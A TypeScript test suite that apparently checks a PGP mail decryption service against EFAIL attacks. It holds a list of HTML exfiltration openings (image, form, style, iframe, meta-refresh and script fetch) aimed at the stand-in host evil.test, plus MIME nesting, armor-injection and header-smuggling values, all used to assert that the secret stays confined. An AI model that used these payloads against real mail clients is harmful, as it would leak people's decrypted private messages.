import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import PostalMime from 'postal-mime'
import {
  armored,
  confined,
  container,
  EVIL,
  encryptedPart,
  mail,
  part,
  SECRET,
  type Stage,
  silent,
  stage,
  verdictOf,
} from './efail-samples.ts'
import { bodyOf, messageIn } from './people.ts'

const inside = `Content-Type: text/plain; charset=utf-8\r\n\r\n${SECRET}\r\n`
const html = (text: string) => part('text/html', text)
// What swallows all that follows until somebody closes it, in the ways that mail programs have fallen for.
const openings = {
  'an image': ['<img src="http://evil.test/?', '">'],
  'an image in single quotes': ["<img src='http://evil.test/?", "'>"],
  'a link': ['<a href="http://evil.test/?', '">win</a>'],
  'a form': ['<form action="http://evil.test/"><textarea name=t>', '</textarea></form>'],
  'an option of a form': ['<form action="http://evil.test/"><select name=t><option>', '</select></form>'],
  'a button': ['<form action="http://evil.test/"><input type=submit name="', '"></form>'],
  'a style sheet': ["<style>@import url('http://evil.test/?", "');</style>"],
  'a background': ['<p style="background:url(http://evil.test/?', ')">'],
  'a frame': ['<iframe src="http://evil.test/?', '"></iframe>'],
  'an object': ['<object data="http://evil.test/?', '"></object>'],
  'a base': ['<base href="http://evil.test/"><base target="', '">'],
  'a refresh': ['<meta http-equiv=refresh content="0;url=http://evil.test/?', '">'],
  'a script': ['<script>fetch("http://evil.test/?"+`', '`)</script>'],
  'a comment': ['<!-- evil.test', '-->'],
} as const

describe('EFAIL: nothing that was not encrypted is shown with what was', () => {
  let on: Stage
  let text: string
  let fields: Record<string, string>
  before(async () => {
    on = await stage()
    text = armored(await on.sealed(inside, on.ben, on.ada))
    fields = { From: on.ada.email, To: on.ben.email, Subject: 'x' }
  })
  after(() => on.house.stop())

  const open = (content: string, header = fields) => on.ben.decrypt(mail(header, content))

  it('HTML around the encrypted part, in every way to leave it open', async () => {
    for (const [what, [begin, end]] of Object.entries(openings)) {
      const reply = await open(container('multipart/mixed', html(begin), encryptedPart(text), html(end)))
      confined(reply, what)
      assert.deepEqual([reply.json.verification.result, reply.json.hasMore], ['partly', true], what)
    }
  })

  it('in every order, container and depth', async () => {
    const [begin, end] = openings['an image'].map(html) as [string, string]
    const secret = encryptedPart(text)
    const orders = [
      [begin, secret, end],
      [begin, secret],
      [secret, begin, end],
      [begin, end, secret],
      [begin, begin, secret, end, end],
    ]
    const types = ['mixed', 'related', 'alternative', 'parallel', 'digest', 'report', 'signed', 'appledouble', 'x-y']
    for (const type of types)
      for (const [index, order] of orders.entries()) {
        const what = `${type}, order ${index}`
        const reply = await open(container(`multipart/${type}`, ...order))
        confined(reply, what)
        assert.equal(reply.json.hasMore, true, what)
      }
    const nested = container('multipart/related', container('multipart/alternative', begin, secret), end)
    for (const depth of [1, 3]) {
      let whole = nested
      for (let at = 0; at < depth; at++) whole = container('multipart/mixed', begin, whole, end)
      confined(await open(whole), `depth ${depth}`)
    }
    let deep = secret
    for (let at = 0; at < 40; at++) deep = container('multipart/mixed', deep)
    silent(await open(deep), 'deeper than anybody looks', 'NOT_ENCRYPTED')
  })

  it('parts among those of the encrypted one itself', async () => {
    const [begin, end] = openings['an image'].map(html) as [string, string]
    const variants = {
      'in front': encryptedPart(text, { before: begin }),
      behind: encryptedPart(text, { after: end }),
      both: encryptedPart(text, { before: begin, after: end }),
      'as the part that holds the armor': container(
        'multipart/encrypted; protocol="application/pgp-encrypted"',
        part('application/pgp-encrypted', 'Version: 1\n'),
        html(`<img src="http://evil.test/?\r\n${text}\r\n">`),
      ),
      'around the armor': encryptedPart(`<img src="http://evil.test/?\r\n${text}\r\n">`),
      'as lines of the armor': encryptedPart(
        text.replace('\r\n\r\n', '\r\nComment: <img src="http://evil.test/?\r\n\r\n'),
      ),
      'behind the armor, as a second one': encryptedPart(`${text}\r\n-----BEGIN PGP MESSAGE-----\r\nevil.test`),
    }
    for (const [what, content] of Object.entries(variants)) {
      const reply = await open(content)
      confined(reply, what)
      assert.equal(reply.json.hasMore, what !== 'as lines of the armor', what)
    }
  })

  it('a message in the message is not opened at all, nor is what a page refers to', async () => {
    const forwarded = part('message/rfc822', `From: ${on.ada.email}\r\n${encryptedPart(text)}`)
    const frame = html('<iframe src="cid:s"></iframe><img src="http://evil.test/?')
    for (const [what, content] of Object.entries({
      alone: forwarded,
      'beside HTML': container('multipart/mixed', html(openings['an image'][0]), forwarded),
      'in a digest': container('multipart/digest', forwarded),
      'as a partial message': part('message/partial; number=1; total=1; id=a', encryptedPart(text)),
      'as a body elsewhere': part(
        'message/external-body; access-type=URL; URL="http://evil.test/"',
        encryptedPart(text),
      ),
      'as an attached file': container(
        'multipart/related',
        frame,
        part('application/octet-stream', text, 'Content-ID: <s>\n'),
      ),
      'as an attached text': container(
        'multipart/mixed',
        frame,
        part('text/plain', text, 'Content-Disposition: attachment\nContent-ID: <s>\n'),
      ),
      'as a page': html(`<img src="http://evil.test/?\r\n${text}\r\n">`),
      'as a picture': container('multipart/related', frame, part('image/png', text, 'Content-ID: <s>\n')),
      'as another text': part('text/enriched', text),
    }))
      silent(await open(content), what, 'NOT_ENCRYPTED')
    const referred = encryptedPart(text).replace('Content-Type', 'Content-ID: <s>\r\nContent-Type')
    confined(await open(container('multipart/related', frame, referred)), 'with a Content-ID')
  })

  it('armor in the text, between pages, and under every transfer encoding', async () => {
    const [begin, end] = openings['an image'].map(html) as [string, string]
    const dirty = `<img src="http://evil.test/?\r\n${text}\r\n">`
    const base64 = Buffer.from(dirty).toString('base64').replace(/.{76}/g, '$&\r\n')
    // Each line goes on behind a soft break.
    const printable = dirty.replaceAll('=', '=3D').replace(/[A-Za-z0-9]{20}/g, '$&=\r\n')
    for (const [what, content] of Object.entries({
      'between pages': container('multipart/mixed', begin, part('text/plain', text), end),
      'in front of a page': container('multipart/alternative', part('text/plain', text), html(`evil.test${text}`)),
      'in a text of its own': part('text/plain', dirty),
      'in base64': part('text/plain', base64, 'Content-Transfer-Encoding: base64\n'),
      'in quoted-printable': part('text/plain', printable, 'Content-Transfer-Encoding: quoted-printable\n'),
      'behind what only looks like armor': part('text/plain', `-----BEGIN PGP MESSAGE-----evil.test\r\n${text}`),
    })) {
      const reply = await open(content)
      confined(reply, what)
      assert.deepEqual([reply.json.hasMore, reply.json.format], [true, 'pgp-inline'], what)
      assert.match(reply.json.message, /\r\nContent-Type: text\/plain; charset=utf-8\r\n/, what)
    }
  })

  it('of several encrypted parts one is opened: what Eve encrypted is never joined with what Ada did', async () => {
    const eves = armored(await on.sealed(`Content-Type: text/html\r\n\r\n<img src="http://evil.test/?`, on.ben, on.eve))
    const orders = {
      mixed: [encryptedPart(eves), encryptedPart(text), encryptedPart(eves)],
      'Ada first': [encryptedPart(text), encryptedPart(eves)],
      'as inline armor': [part('text/plain', eves), part('text/plain', text)],
      'of both kinds': [encryptedPart(eves), part('text/plain', text)],
    }
    for (const [what, parts] of Object.entries(orders)) {
      const reply = await open(container('multipart/mixed', ...parts))
      const isAdas = what === 'Ada first'
      assert.deepEqual([reply.text.includes(SECRET), reply.text.includes(EVIL)], [isAdas, !isAdas], what)
      assert.equal(reply.json.hasMore, true, what)
      assert.deepEqual(verdictOf(reply).each, [isAdas ? ['valid', on.ada.email] : ['unknown-key', null]], what)
    }
    for (const content of [encryptedPart(eves + text), part('text/plain', eves + text)]) {
      const reply = await open(content)
      assert.deepEqual([reply.text.includes(SECRET), reply.json.hasMore], [false, true])
    }
  })

  it('what stands outside cannot say how the inside is to be read', async () => {
    const tricks = {
      'a second Content-Type': 'Content-Type: text/html; x="evil.test',
      'one with a blank': 'Content-Type : text/html; x="evil.test',
      'a transfer encoding': 'Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=evil.test',
    }
    for (const [what, field] of Object.entries(tricks)) {
      const reply = await open(`${encryptedPart(text).replace('\r\n\r\n', `\r\n${field}\r\n\r\n`)}`)
      confined(reply, what)
      assert.match(reply.json.message, /\r\nContent-Type: text\/plain; charset=utf-8\r\n\r\nthe-secret/, what)
    }
  })

  it('a field outside ends where it ends, for any program that reads the answer', async () => {
    // A program to which CR alone, or a line of blanks, ends a line or the header would read: HTML, and the secret in it.
    const page = 'Content-Type: text/html'
    const fieldsOf = (value: string): Record<string, string> => ({ 'X-First': value, ...fields })
    for (const value of [
      `1\r${page}\r\r<img src="http://evil.test/?`,
      `1\r\n \r\n \r\n <img src="http://evil.test/?`,
      `1\r\n\t\r\n ${page}`,
      `1\0\0${page}`,
      `1\r\r\n ${page}`,
    ])
      for (const content of [encryptedPart(text), part('text/plain', text)]) {
        const { json } = await open(content, fieldsOf(value))
        const head = json.message.split('\r\n\r\n')[0] as string
        assert.doesNotMatch(head, /\r(?!\n)|(?<!\r)\n|\0|\n[ \t]+\r/, JSON.stringify(value))
        assert.equal(json.message.split(SECRET).length, 2)
        const read = await PostalMime.parse(json.message.replace(/\r(?!\n)/g, '\r\n'))
        assert.deepEqual([read.html, read.text?.includes(SECRET)], [undefined, true], JSON.stringify(value))
      }
    const opened = await open(encryptedPart(text), fieldsOf('folded\r\n\tbut honest'))
    assert.match(opened.json.message, /^X-First: folded\r\n\tbut honest\r\n/)
    assert.equal(bodyOf(messageIn(opened)).toString(), `${SECRET}\r\n`)
  })
})
